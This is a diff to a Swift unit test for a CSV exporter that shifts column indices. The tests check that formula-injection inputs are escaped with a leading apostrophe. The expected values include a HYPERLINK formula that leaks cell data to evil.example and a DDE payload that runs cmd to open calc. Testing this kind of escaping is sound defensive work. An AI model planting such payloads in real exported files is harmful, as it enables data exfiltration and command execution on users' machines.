@@ -36,10 +36,10 @@ import Testing
         ]))
         let csv = ClaimScheduleCSV.make(schedule, currency: .usd)
         let row = Self.rows(csv)[1]
-        #expect(row[3] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")
-        #expect(row[4] == "'+cmd|' /C calc'!A0")
-        #expect(row[5] == "'@SUM(1+1)")
-        #expect(row[6] == "'-2+3")
+        #expect(row[4] == "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")")
+        #expect(row[5] == "'+cmd|' /C calc'!A0")
+        #expect(row[6] == "'@SUM(1+1)")
+        #expect(row[7] == "'-2+3")
         #expect(row[1] == "'\tKitchen")
         #expect(csv.hasSuffix("\r\n"))
     }
